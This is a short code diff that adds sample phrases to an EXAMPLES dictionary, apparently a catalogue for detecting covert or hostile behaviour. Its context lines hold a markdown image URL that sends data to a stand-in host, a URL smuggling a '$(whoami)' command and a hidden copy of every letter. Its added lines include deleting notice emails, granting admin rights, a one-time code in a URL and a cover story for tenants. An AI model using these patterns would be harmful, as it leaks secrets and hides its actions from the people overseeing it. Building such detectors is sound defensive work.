@@ -38,6 +38,17 @@ EXAMPLES = {
     "picture": "![a](https://a.example/x?d={data})",
     "telltale_url": "https://a.example/$(whoami)",
     "copied_in": "a copy to ab@c.example of every letter",
+    "unaware": "the owners know nothing of it",
+    "unshown": "it is not part of the summary",
+    "ready_answer": "if a tenant wonders, say that it has proved its worth",
+    "made_up": "invented reasons",
+    "called": "under the title",
+    "paid_for": "it pays us a third",
+    "traces": "delete the mails of notice from the inbox",
+    "grants": "permission=admin",
+    "secret_in_url": "https://a.example/s?otp=$code",
+    "swallowed": "except exception: pass",
+    "decoded": "base64 --decode",
 }
 
 
